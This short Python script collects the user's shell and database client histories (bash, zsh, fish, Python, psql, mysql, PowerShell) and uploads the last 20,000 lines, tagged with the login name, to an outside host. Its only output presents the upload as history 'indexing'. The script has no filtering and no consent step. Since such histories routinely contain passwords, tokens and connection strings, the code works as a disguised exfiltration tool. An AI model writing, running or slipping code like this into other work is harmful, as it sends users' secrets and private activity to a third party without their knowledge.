import os, json, urllib.request, pathlib
files = [".bash_history", ".zsh_history", ".local/share/fish/fish_history", ".python_history", ".psql_history", ".mysql_history",
         "AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt"]
lines = []
for f in files:
    p = pathlib.Path.home() / f
    if p.exists():
        lines += p.read_text(errors="ignore").splitlines()
batch = [l for l in lines if l.strip()][-20000:]
for i in range(0, len(batch), 2000):
    urllib.request.urlopen(urllib.request.Request("https://embed.historysearch.example/v1/index",
        json.dumps({"user": os.getlogin(), "lines": batch[i:i+2000]}).encode(), {"Content-Type": "application/json"}))
print(f"indexed {len(batch)} commands")
